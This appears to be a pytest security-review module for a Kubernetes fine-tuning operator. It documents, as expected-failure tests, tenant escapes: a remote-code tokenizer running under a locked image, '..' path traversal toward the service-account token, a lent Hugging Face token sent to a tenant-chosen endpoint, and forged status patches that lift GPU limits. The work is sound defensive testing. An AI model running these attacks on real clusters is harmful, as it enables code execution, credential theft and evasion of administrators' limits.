"""An adversarial review of issue 41 on the real API server with the chart's policies: what a tenant, a FineTuneJob-only
user or a trainer token can still do through a FineTuneJob, and where a platform admin's runtime limits do not hold.

Each case states what the docs promise (README, docs/operations/security.md, docs/concepts/runtimes.md) and is marked
xfail(strict, raises=Hole) while the product does not keep it: the evidence of the hole is asserted first (a plain
assert: if the evidence itself fails, the case fails loudly), then the promise, which raises Hole. A fix makes the case
XPASS, which fails the suite until the marker goes.

Found (severity as the reviewer judges it):
- runtime limits: allowedModelSources reads spec.model.name only (a tokenizer with trustRemoteCode runs its code
  under a locked image; method.lora.initFrom is not checked either), and allowedModelSources/allowedDataSources are
  string prefixes that '..' climbs out of (high: code execution past a locked image);
- a Secret a runtime lends goes to an endpoint the tenant sets (output.push.endpoint, not lockable) (high);
- an unbound token of a job's own ServiceAccount writes any status field: phase, and status.runtime, the record the
  limits are judged against (medium/high: issue 41 section 4's repro, still open for user ServiceAccounts);
- a delete with propagationPolicy Orphan leaves the attempt's Job running with no deadline and no owner (medium);
- a FineTuneJob-only user mounts NFS exports past allowedClaims and ConfigMaps she may not get (medium/low);
- a job created suspended counts as started without a runtime, so a default added later never binds it (low);
- a trainer token reads every job's spec through /status, which security.md says it cannot (low);
- kueue.x-k8s.io/priority-class reaches the Job whatever pod.priorityClassName's lock says (low);
- nfs volumes are refused by restricted Pod Security, which api/volumes.py says admits every kind (low, docs).
"""

from __future__ import annotations

import copy
import json
import os
import posixpath
import subprocess
import sys
import textwrap
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from finetune_operator.api.runtime_layers import resolve_offline
from finetune_operator.api.validation import validate_job
from finetune_operator.render.context import RenderContext
from finetune_operator.render.rbac import render_trainer_identity
from finetune_operator.render.workload import render_workload
from tests.builders import make_job
from tests.cluster.test_tenancy import FTJ, bind, can, chart_objects, delete_all, wait_can
from tests.conftest import ROOT
from tests.support.job_status import wait_status
from tests.support.tenant_api import TenantApi

pytestmark = pytest.mark.cluster
NS = "attack-review"
LABEL = {"finetunejob.dev/attack-review": "yes"}
OURS = {"matchLabels": LABEL}
PLATFORM_TOKEN = "hf_platform_read_token_do_not_leak"


class Hole(AssertionError):
    """What the docs promise does not hold (the evidence before it did)."""


def promise(holds: bool, what: str) -> None:
    if not holds:
        raise Hole(what)


hole = pytest.mark.xfail(strict=True, raises=Hole, reason="a hole this review found; see the module docstring")


def runtime(name: str, template: dict, limits: dict, default: bool = False, selector: dict | None = OURS) -> dict:
    spec: dict[str, Any] = {"default": default, "template": template, "limits": limits}
    if selector is not None:
        spec["namespaceSelector"] = selector
    return {"apiVersion": "finetunejob.dev/v1alpha1", "kind": "ClusterFineTuneRuntime", "metadata": {"name": name},
            "spec": spec}


# The platform lends its Hugging Face read token (gated models) and locks everything the docs say to lock in a
# runtime that lends Secrets: image, env, Secret env, volumes, identity, object storage, queue, priority.
LOCKED = runtime("attack-locked", {
    "pod": {"image": "registry.local/trainer:platform",
            "secretEnv": [{"name": "HF_TOKEN", "secretName": "platform-hf", "key": "token"}]},
    "distributed": {"gpusPerNode": 1}}, {
    "locked": ["pod.image", "pod.env", "pod.secretEnv", "pod.volumes", "pod.serviceAccountName", "s3", "queueName",
               "pod.priorityClassName"],
    "maxNodes": 2, "maxGpusPerJob": 2, "allowedModelSources": ["/models/"], "allowedDataSources": ["/data/"],
    "maxActiveDeadlineSeconds": 3600})
# Claims limited to the team's own, volumes otherwise open.
CLAIMS = runtime("attack-claims", {"distributed": {"gpusPerNode": 1}}, {"allowedClaims": ["team-data"]})
# For the cases with a running operator: 2 GPUs, a short deadline.
SMALL = runtime("attack-small", {"pod": {"image": "registry.local/trainer:small"}, "distributed": {"gpusPerNode": 1}},
                {"locked": ["pod.image"], "maxGpusPerJob": 2, "maxActiveDeadlineSeconds": 120})


def lean(name: str, ns: str = NS, **spec: Any) -> dict:
    doc = make_job({"metadata.name": name, "metadata.namespace": ns, "spec.runPolicy": {"activeDeadlineSeconds": 600}})
    for section in ("distributed", "resources", "pod"):
        doc["spec"].pop(section, None)
    doc["spec"].update(copy.deepcopy(spec))
    return doc


def _apply(kubectl, *docs: dict) -> None:
    kubectl.run("apply", "-f", "-", input=json.dumps({"apiVersion": "v1", "kind": "List", "items": list(docs)}))


def _until(check, what: str, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, what
        time.sleep(0.3)


@pytest.fixture(scope="module")
def arena(control_plane, kubectl):
    """One labelled namespace with every policy of the chart, the chart's user roles, three users (eddie: edit,
    fiona: FineTuneJobs only and her own Secret, vera: view), Secrets, a ConfigMap, a ServiceAccount and the
    runtimes above."""
    kubectl.run("create", "namespace", NS)
    kubectl.run("label", "namespace", NS, *(f"{k}={v}" for k, v in LABEL.items()))
    docs = []
    for template in ("user-roles.yaml", "admission-policy-runtimes.yaml", "admission-policy-identity.yaml",
                     "admission-policy.yaml", "admission-policy-trainer-pods.yaml"):
        docs += chart_objects(control_plane, kubectl, template)
    try:
        _apply(kubectl, *render_trainer_identity(NS, None))
        for secret, value in (("alice-token", "a"), ("fiona-token", "f"), ("platform-hf", PLATFORM_TOKEN)):
            kubectl.run("create", "secret", "generic", secret, f"--from-literal=token={value}", "-n", NS)
        kubectl.run("create", "configmap", "team-b-settings", "--from-literal=db=postgres://team-b:pw@db", "-n", NS)
        kubectl.run("create", "serviceaccount", "ci-bot", "-n", NS)
        bind(kubectl, NS, "eddie", "edit")
        bind(kubectl, NS, "vera", "view")
        kubectl.run("create", "role", "ftj-only", "--verb=create,get,list,update,patch,delete", f"--resource={FTJ}",
                    "-n", NS)
        kubectl.run("create", "rolebinding", "ftj-only", "--role=ftj-only", "--user=fiona", "-n", NS)
        kubectl.run("create", "role", "fiona-token", "--verb=get", "--resource=secrets", "--resource-name=fiona-token",
                    "-n", NS)
        kubectl.run("create", "rolebinding", "fiona-token", "--role=fiona-token", "--user=fiona", "-n", NS)
        _apply(kubectl, LOCKED, CLAIMS, SMALL)
        wait_can(kubectl, "eddie", NS, "create", FTJ)
        wait_can(kubectl, "fiona", NS, "create", FTJ)
        apis = {user: TenantApi(control_plane.kubeconfig, user=user) for user in ("eddie", "fiona", "vera")}
        # The runtimes are in force: a job past LOCKED's GPUs is refused.
        probe = lean("probe", runtimeRef={"name": "attack-locked"}, distributed={"numNodes": 2, "gpusPerNode": 2})
        _until(lambda: "limits.maxGpusPerJob = 2" in apis["fiona"].create(probe).message,
               "the runtimes never reached the admission policies")
        yield apis
    finally:
        delete_all(kubectl, docs)
        for doc in (LOCKED, CLAIMS, SMALL):
            kubectl.run("delete", doc["kind"], doc["metadata"]["name"], "--ignore-not-found", check=False)
        kubectl.run("delete", "namespace", NS, "--wait=false")


def _python(script: str, env: dict[str, str], timeout: float = 300) -> subprocess.CompletedProcess:
    """A trainer-side step in its own process (its own HF_* settings), with this worktree's code."""
    full = {**os.environ, **env,
            "PYTHONPATH": os.pathsep.join([str(ROOT / "operator"), str(ROOT / "trainer_image"), str(ROOT)])}
    for key in ("HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE"):  # a local path or server only; never the Hub
        if key not in env:
            full.pop(key, None)
    return subprocess.run([sys.executable, "-c", textwrap.dedent(script)], env=full, capture_output=True, text=True,
                          timeout=timeout)


# --- 1. What runs, with the image locked -----------------------------------------------------------------------------
REMOTE_CODE_TOKENIZER = """
    import json, os, pathlib, sys
    from tokenizers import Tokenizer, models, pre_tokenizers
    where = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else os.environ["EVIL_DIR"])
    where.mkdir(parents=True, exist_ok=True)
    vocab = {"<unk>": 0, "<eos>": 1, "hello": 2, "world": 3}
    tok = Tokenizer(models.WordLevel(vocab, unk_token="<unk>"))
    tok.pre_tokenizer = pre_tokenizers.Whitespace()
    tok.save(str(where / "tokenizer.json"))
    (where / "tokenizer_config.json").write_text(json.dumps({
        "tokenizer_class": "EvilTokenizerFast", "eos_token": "<eos>", "unk_token": "<unk>",
        "auto_map": {"AutoTokenizer": [None, "tokenization_evil.EvilTokenizerFast"]}}))
    (where / "tokenization_evil.py").write_text(
        "import os, pathlib\\n"
        "pathlib.Path(os.environ['MARKER']).write_text('code from spec.model.tokenizer ran in pid %d' % os.getpid())\\n"
        "from transformers import PreTrainedTokenizerFast\\n"
        "class EvilTokenizerFast(PreTrainedTokenizerFast):\\n"
        "    pass\\n")
"""
LOAD_TOKENIZER = """
    import json, os
    from finetune_operator.api.validation import validate_job
    from finetune_trainer.training.model import load_tokenizer
    job = validate_job(json.loads(os.environ["JOB"]))
    load_tokenizer(job.spec)
"""


@hole
def test_a_tokenizer_outside_allowed_model_sources_runs_its_code_under_a_locked_image(arena, tmp_path):
    """The runtime locks the image, env, Secret env, volumes and identity, and allows models under /models/ only.
    fiona (FineTuneJobs only) keeps model.name under /models/ but names a tokenizer elsewhere, with
    trustRemoteCode: admission and the operator's own check both admit it (allowedModelSources reads model.name
    only), and the trainer imports the Python file that comes with that tokenizer: the tenant's code in the
    platform's image, with the platform's HF token in its environment. (A Hub id, `tokenizer: someone/evil`, is the
    same field; a path is used here since no Hub is reachable.)"""
    evil = tmp_path / "evil-tokenizer"
    made = _python(REMOTE_CODE_TOKENIZER, {"EVIL_DIR": str(evil)})
    assert made.returncode == 0, made.stderr[-2000:]
    job = lean("remote-code", runtimeRef={"name": "attack-locked"},
               model={"name": "/models/base", "tokenizer": str(evil), "trustRemoteCode": True})
    answer = arena["fiona"].create(job)
    operator_says = resolve_offline(job, [LOCKED], lambda: {**LABEL, "kubernetes.io/metadata.name": NS})
    # Evidence: the merged job as the operator would run it makes the trainer import that file.
    marker = tmp_path / "ran"
    ran = _python(LOAD_TOKENIZER, {"JOB": json.dumps(operator_says.obj), "MARKER": str(marker),
                                   "HF_MODULES_CACHE": str(tmp_path / "modules"), "HF_HOME": str(tmp_path / "hf")})
    assert marker.is_file(), (ran.returncode, ran.stderr[-3000:])
    assert operator_says.obj["spec"]["pod"]["image"] == "registry.local/trainer:platform"
    promise(not answer.admitted and bool(operator_says.errors),
            f"admitted as fiona ({answer.status}) and the operator finds no error ({operator_says.errors}); the "
            f"trainer ran: {marker.read_text()!r}")


@hole
def test_a_model_path_climbs_out_of_allowed_model_sources(arena):
    """allowedModelSources [/models/] is a string prefix: /models/../output/evil passes it, at apply and in the
    operator (with trustRemoteCode, whatever the tenant wrote there runs)."""
    name = "/models/../output/evil"
    job = lean("climb-model", runtimeRef={"name": "attack-locked"}, model={"name": name, "trustRemoteCode": True})
    answer = arena["fiona"].create(job)
    operator_says = resolve_offline(job, [LOCKED], lambda: {**LABEL, "kubernetes.io/metadata.name": NS})
    assert not posixpath.normpath(name).startswith("/models/")
    promise(not answer.admitted and bool(operator_says.errors),
            f"admitted ({answer.status}), operator errors {operator_says.errors}: {name}")


@hole
def test_a_data_path_climbs_out_of_allowed_data_sources(arena):
    """allowedDataSources [/data/] is a string prefix: /data/../anything passes it, at apply and in the operator.
    With a Secret volume in the runtime, /data/../<its mount>/token would be read as training text."""
    job = lean("climb", runtimeRef={"name": "attack-locked"},
               data={"format": "text", "train": [{"path": "/data/../var/run/secrets/kubernetes.io/serviceaccount/token",
                                                  "fileType": "text"}]})
    answer = arena["fiona"].create(job)
    operator_says = resolve_offline(job, [LOCKED], lambda: {**LABEL, "kubernetes.io/metadata.name": NS})
    assert operator_says.missing is None
    promise(not answer.admitted and bool(operator_says.errors),
            f"admitted ({answer.status}: {answer.message[:200]}), operator errors {operator_says.errors}")


# --- 2. A Secret the runtime lends goes where the tenant says -------------------------------------------------------
class _Recorder(BaseHTTPRequestHandler):
    seen: list[dict[str, str]] = []

    def log_message(self, *args: Any) -> None:
        pass

    def _answer(self) -> None:
        _Recorder.seen.append({"path": self.path, "authorization": self.headers.get("Authorization", "")})
        length = int(self.headers.get("Content-Length") or 0)
        if length:
            self.rfile.read(length)
        body = b'{"url": "http://example/x", "name": "x"}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = _answer


PUSH_PROBE = """
    import json, os, types
    from finetune_operator.api.validation import validate_job
    from finetune_trainer.outputs.hub import ensure_repo, hub_api
    job = validate_job(json.loads(os.environ["JOB"]))
    cfg = types.SimpleNamespace(spec=job.spec)
    ensure_repo(hub_api(cfg), cfg)
"""


@hole
def test_a_hub_token_the_runtime_lends_is_sent_to_an_endpoint_the_tenant_chooses(arena, kubectl, tmp_path):
    """The platform lends HF_TOKEN through the runtime (pod.secretEnv, locked, with the image, env and volumes
    locked as the runtimes page advises). fiona may not get that Secret. She sets spec.output.push.endpoint (not a
    lockable field) to her own server: admitted, the pods get HF_TOKEN from platform-hf, and the trainer sends it to
    her server as a bearer token. The same holds for tracking.wandb.baseUrl / tracking.mlflow.trackingUri with a
    lent WANDB_API_KEY / MLFLOW_TRACKING_TOKEN."""
    assert not can(kubectl, "fiona", NS, "get", "secret", "platform-hf")
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}"
        job = lean("exfil", runtimeRef={"name": "attack-locked"},
                   output={"push": {"repo": "fiona/anything", "endpoint": url}})
        answer = arena["fiona"].create(job)
        merged = resolve_offline(job, [LOCKED], lambda: {**LABEL, "kubernetes.io/metadata.name": NS})
        assert not merged.errors and merged.missing is None, merged
        pod = render_workload(validate_job(merged.obj).spec, RenderContext(name="exfil", namespace=NS))
        env = pod["spec"]["template"]["spec"]["containers"][0]["env"]
        assert {"name": "HF_TOKEN", "valueFrom": {"secretKeyRef": {"name": "platform-hf", "key": "token",
                                                                    "optional": False}}} in env
        _Recorder.seen.clear()
        _python(PUSH_PROBE, {"JOB": json.dumps(merged.obj), "HF_TOKEN": PLATFORM_TOKEN,
                             "HF_HOME": str(tmp_path / "hf")}, timeout=120)
        assert any(PLATFORM_TOKEN in r["authorization"] for r in _Recorder.seen), _Recorder.seen
    finally:
        server.shutdown()
        server.server_close()
    promise(not answer.admitted, f"admitted as fiona ({answer.status}); the trainer sent the platform's token to "
                                 f"{url}: {_Recorder.seen[0]}")


# --- 3. Volumes a FineTuneJob-only user cannot reach directly --------------------------------------------------------
@hole
@pytest.mark.parametrize("volume", [
    {"name": "theirs", "mountPath": "/theirs", "nfs": {"server": "storage.team-b.internal", "path": "/exports/team-b"}},
    {"name": "settings", "mountPath": "/settings", "configMap": "team-b-settings"},
], ids=["nfs-past-allowedClaims", "configmap-fiona-may-not-get"])
def test_a_finetunejob_only_user_mounts_what_she_could_not_reach_directly(arena, kubectl, volume):
    """fiona may not create pods nor get ConfigMaps; the runtime allows the claim team-data only. Through a job she
    mounts any NFS export (allowedClaims limits PersistentVolumeClaims only) and any ConfigMap of the namespace
    (the Secret rule has no ConfigMap twin)."""
    assert not can(kubectl, "fiona", NS, "create", "pods")
    assert not can(kubectl, "fiona", NS, "get", "configmaps")
    job = lean("mount", runtimeRef={"name": "attack-claims"}, pod={"volumes": [volume]})
    answer = arena["fiona"].create(job)
    operator_says = resolve_offline(job, [CLAIMS], lambda: {**LABEL, "kubernetes.io/metadata.name": NS})
    promise(not answer.admitted and bool(operator_says.errors),
            f"admitted ({answer.status}), operator errors {operator_says.errors}: {volume}")


@hole
def test_an_nfs_volume_is_not_admitted_under_restricted_pod_security(arena, kubectl):
    """api/volumes.py: 'each kind here is admitted under the restricted Pod Security Standard'; security.md: label
    tenant namespaces restricted. An nfs volume is not in restricted's list: the attempt's pods are refused."""
    ns = "attack-restricted"
    kubectl.run("create", "namespace", ns)
    try:
        kubectl.run("label", "namespace", ns, "pod-security.kubernetes.io/enforce=restricted")
        job = validate_job(make_job({"metadata.name": "nfs", "metadata.namespace": ns, "spec.pod": {"volumes": [
            {"name": "d", "mountPath": "/d", "nfs": {"server": "nfs.local", "path": "/x"}}]}}))
        template = render_workload(job.spec, RenderContext(name="nfs", namespace=ns))["spec"]["template"]
        template["spec"]["serviceAccountName"] = "default"  # the trainer-pods policy is not what is asked here
        pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "nfs-a1-0-abcde", "namespace": ns,
                                                               "labels": template["metadata"]["labels"]},
               "spec": template["spec"]}
        proc = kubectl.run("create", "--dry-run=server", "-f", "-", input=json.dumps(pod), check=False)
        control = copy.deepcopy(pod)
        control["spec"]["volumes"] = [v for v in control["spec"]["volumes"] if "nfs" not in v]
        control["spec"]["containers"][0]["volumeMounts"] = [
            m for m in control["spec"]["containers"][0]["volumeMounts"] if m["name"] != "d"]
        assert kubectl.run("create", "--dry-run=server", "-f", "-", input=json.dumps(control),
                           check=False).returncode == 0
        promise(proc.returncode == 0, proc.stderr.strip())
    finally:
        kubectl.run("delete", "namespace", ns, "--wait=false")


# --- 4. Priority past a locked priority class -------------------------------------------------------------------------
@hole
def test_kueue_priority_label_is_not_covered_by_a_locked_priority_class(arena):
    """LOCKED locks pod.priorityClassName and the queue. Every kueue.x-k8s.io/ label of the FineTuneJob reaches its
    Job (render/workload.py), kueue.x-k8s.io/priority-class (Kueue's WorkloadPriorityClass) among them."""
    job = lean("prio", runtimeRef={"name": "attack-locked"})
    job["metadata"]["labels"] = {"kueue.x-k8s.io/priority-class": "cluster-critical"}
    answer = arena["fiona"].create(job)
    merged = resolve_offline(job, [LOCKED], lambda: {**LABEL, "kubernetes.io/metadata.name": NS})
    spec = validate_job(merged.obj).spec
    rendered = render_workload(spec, RenderContext(name="prio", namespace=NS,
                                                   job_labels=merged.obj["metadata"]["labels"]))
    assert rendered["metadata"]["labels"]["kueue.x-k8s.io/priority-class"] == "cluster-critical"
    promise(not answer.admitted, f"admitted ({answer.status}); the attempt Job carries the label")


# --- 5. Trainer tokens ------------------------------------------------------------------------------------------------
@hole
def test_a_trainer_token_reads_another_jobs_spec_through_its_status(arena, kubectl):
    """security.md: 'A trainer's token may read its own job's status ... and nothing else of the namespace'. The
    trainer Role's get on finetunejobs/status has no resourceNames (one ServiceAccount for every job of the
    namespace), and admission policies never see reads."""
    victim = lean("victim", runtimeRef={"name": "attack-locked"},
                  data={"format": "alpaca", "train": [{"inline": [{"instruction": "private", "output": "rows"}]}]})
    _apply(kubectl, victim)
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "attacker-a1-0-abcde", "namespace": NS},
           "spec": {"serviceAccountName": "finetunejob-trainer", "restartPolicy": "Never",
                    "containers": [{"name": "c", "image": "busybox"}]}}
    _apply(kubectl, pod)
    uid = kubectl.json("get", "pod", pod["metadata"]["name"], "-n", NS)["metadata"]["uid"]
    token = kubectl.run("create", "token", "finetunejob-trainer", "-n", NS, "--bound-object-kind=Pod",
                        f"--bound-object-name={pod['metadata']['name']}", f"--bound-object-uid={uid}").stdout.strip()
    trainer = TenantApi(arena["fiona"].kubeconfig, token=token)
    answer = trainer.request("GET", trainer._path(NS, "victim", "status"))
    assert answer.status in (200, 403), answer
    promise(answer.status == 403, f"{answer.status}: the trainer of job attacker read job victim's spec: "
                                  f"{json.dumps(answer.body.get('spec', {}).get('data'))[:200]}")


# --- 6. With the operator running ----------------------------------------------------------------------------------
def _gpus(job: dict) -> int:
    container = job["spec"]["template"]["spec"]["containers"][0]
    return job["spec"]["parallelism"] * int(container["resources"]["limits"].get("nvidia.com/gpu", "0"))


@hole
def test_an_unbound_token_of_a_jobs_own_service_account_rewrites_the_recorded_limits(arena, kubectl, operator):
    """The trainer-status policy binds the trainer identity always, and other identities only when their token is
    bound to a pod (admission-policy.yaml's matchConditions). A job that runs as a ServiceAccount its user named
    (ci-bot) gets a Role to patch its own status; a token of ci-bot bound to nothing (`kubectl create token ci-bot`,
    a legacy token Secret, a CI system's token) is not judged by the policy at all: it writes phase, and it rewrites
    status.runtime, the record every later update and attempt is judged against. With the record's limits emptied,
    the job goes from its runtime's 2 GPUs to 8, at apply and in the operator."""
    eddie = arena["eddie"]
    job = lean("bot", runtimeRef={"name": "attack-small"}, pod={"serviceAccountName": "ci-bot"},
               runPolicy={"activeDeadlineSeconds": 120})
    kubectl.run("apply", "-f", "-", "--as=eddie", input=json.dumps(job))
    st = wait_status(kubectl, NS, "bot", lambda s: s.get("phase") == "Running", operator, timeout=120)
    assert st["runtime"]["layers"][0]["limits"]["maxGpusPerJob"] == 2
    # Who may mint such a token: eddie (edit) if the built-in role lets him, else whoever holds ci-bot's tokens.
    minted_by = "eddie" if can(kubectl, "eddie", NS, "create", "serviceaccounts", "--subresource=token") else "admin"
    token = kubectl.run("create", "token", "ci-bot", "-n", NS,
                        *(["--as=eddie"] if minted_by == "eddie" else [])).stdout.strip()
    bot = TenantApi(eddie.kubeconfig, token=token)
    status_path = bot._path(NS, "bot", "status")
    phase = bot.request("PATCH", status_path, {"status": {"phase": "Succeeded"}},
                        content_type="application/merge-patch+json", query={"dryRun": "All"})
    emptied = [{**layer, "limits": {}} for layer in st["runtime"]["layers"]]
    forged = bot.request("PATCH", status_path, {"status": {"runtime": {"layers": emptied}}},
                         content_type="application/merge-patch+json")
    if forged.admitted:
        # The impact, end to end: eddie's edit past the runtime's 2 GPUs is admitted and the operator runs it.
        kubectl.run("patch", "ftj", "bot", "-n", NS, "--as=eddie", "--type=merge", "-p", json.dumps(
            {"spec": {"distributed": {"numNodes": 4, "gpusPerNode": 2}, "suspend": True}}))
        wait_status(kubectl, NS, "bot", lambda s: s.get("phase") == "Suspended", operator, timeout=90)
        kubectl.run("patch", "ftj", "bot", "-n", NS, "--as=eddie", "--type=merge", "-p",
                    '{"spec": {"suspend": false}}')
        wait_status(kubectl, NS, "bot", lambda s: s.get("attempt") == 2 and s.get("phase") in ("Running", "Pending"),
                    operator, timeout=120)
        assert _gpus(kubectl.json("get", "job", "bot-a2", "-n", NS)) == 8
    promise(not phase.admitted and not forged.admitted,
            f"ci-bot's unbound token (minted by {minted_by}): phase Succeeded {phase.status}, status.runtime limits "
            f"emptied {forged.status}; attempt 2 of bot then holds 4 x 2 = 8 GPUs under "
            "ClusterFineTuneRuntime attack-small, which allows limits.maxGpusPerJob = 2")


@hole
def test_an_orphaning_delete_keeps_the_attempt_running_past_the_runtimes_deadline(arena, kubectl, operator):
    """fiona (FineTuneJobs only: she cannot create pods or Jobs) runs a job under a runtime that caps
    activeDeadlineSeconds, and deletes it with propagationPolicy Orphan (`kubectl delete --cascade=orphan`), a right
    `delete` alone gives. The attempt's Job has no activeDeadlineSeconds of its own (the operator times the job), so
    its pods run on, as the trainer identity, with their GPUs, with no deadline and no operator watching."""
    deadline = 20
    job = lean("orphan", runtimeRef={"name": "attack-small"}, runPolicy={"activeDeadlineSeconds": deadline})
    kubectl.run("apply", "-f", "-", "--as=fiona", input=json.dumps(job))
    wait_status(kubectl, NS, "orphan", lambda s: s.get("phase") == "Running", operator, timeout=120)
    started = time.monotonic()
    fiona = arena["fiona"]
    gone = fiona.request("DELETE", fiona._path(NS, "orphan"), {"propagationPolicy": "Orphan"})
    assert gone.admitted, gone
    _until(lambda: kubectl.json_or_none("get", "ftj", "orphan", "-n", NS) is None, "the FineTuneJob was never deleted",
           timeout=60)
    # Past the deadline (and the GC's pass): the attempt still runs.
    held = None
    end = started + deadline + 30
    while time.monotonic() < end:
        held = kubectl.json_or_none("get", "job", "orphan-a1", "-n", NS)
        if held is None or (held.get("status") or {}).get("active", 0) == 0:
            break
        time.sleep(2)
    still = held is not None and (held.get("status") or {}).get("active", 0) > 0
    if still:
        assert not held["metadata"].get("ownerReferences") and "activeDeadlineSeconds" not in held["spec"]
    promise(not still, f"{deadline + 30}s after the job started (deadline {deadline}s) its Job orphan-a1 still has "
                       f"{held and held['status'].get('active')} active pod(s) holding {held and _gpus(held)} GPU(s), "
                       "owned by nothing")


BLANK = "attack-blank"
CAP = runtime("attack-default", {"distributed": {"gpusPerNode": 1}}, {"maxGpusPerJob": 1}, default=True,
              selector={"matchLabels": {"finetunejob.dev/attack-blank": "yes"}})


@hole
def test_a_job_created_suspended_before_a_default_runtime_is_never_judged_by_it(arena, kubectl, operator):
    """runtimes.md: 'A job that has not started yet (no record) is judged against the runtimes as they are.' fiona
    creates a job with suspend: true in a namespace no default runtime covers yet; nothing of it ever runs, but the
    operator creates its attempt 1 (a suspended Job), and from then on it counts as started without a runtime. The
    admin brings the namespace under a default runtime of 1 GPU; fiona resizes the job to 2 x 4 GPUs and resumes
    it: admitted, and run."""
    kubectl.run("create", "namespace", BLANK)
    try:
        kubectl.run("create", "role", "ftj-only", "--verb=create,get,list,update,patch,delete", f"--resource={FTJ}",
                    "-n", BLANK)
        kubectl.run("create", "rolebinding", "ftj-only", "--role=ftj-only", "--user=fiona", "-n", BLANK)
        wait_can(kubectl, "fiona", BLANK, "create", FTJ)
        _apply(kubectl, CAP)
        job = lean("cheque", BLANK, suspend=True, distributed={"gpusPerNode": 1})
        kubectl.run("apply", "-f", "-", "--as=fiona", input=json.dumps(job))
        st = wait_status(kubectl, BLANK, "cheque", lambda s: s.get("phase") == "Suspended" and s.get("attempt"),
                         operator, timeout=90)
        assert "runtime" not in st
        pods = kubectl.json("get", "pods", "-n", BLANK)["items"]
        assert pods == [], [p["metadata"]["name"] for p in pods]  # nothing of it ever ran
        # The admin brings the namespace under the default (as creating one would): a new job is held to 1 GPU.
        kubectl.run("label", "namespace", BLANK, "finetunejob.dev/attack-blank=yes")
        fiona = arena["fiona"]
        probe = lean("probe", BLANK, distributed={"numNodes": 2})
        _until(lambda: "limits.maxGpusPerJob = 1" in fiona.create(probe).message, "the default never reached admission")
        resized = fiona.request("PATCH", fiona._path(BLANK, "cheque"), {"spec": {
            "distributed": {"numNodes": 2, "gpusPerNode": 4}, "suspend": False}},
            content_type="application/merge-patch+json")
        if resized.admitted:
            wait_status(kubectl, BLANK, "cheque", lambda s: s.get("attempt") == 2, operator, timeout=120)
            assert _gpus(kubectl.json("get", "job", "cheque-a2", "-n", BLANK)) == 8
        promise(not resized.admitted, f"admitted ({resized.status}): attempt 2 of cheque holds 2 x 4 = 8 GPUs in a "
                                      "namespace whose default ClusterFineTuneRuntime allows 1")
    finally:
        kubectl.run("delete", "clusterfinetuneruntime", CAP["metadata"]["name"], "--ignore-not-found", check=False)
        kubectl.run("delete", "namespace", BLANK, "--wait=false")
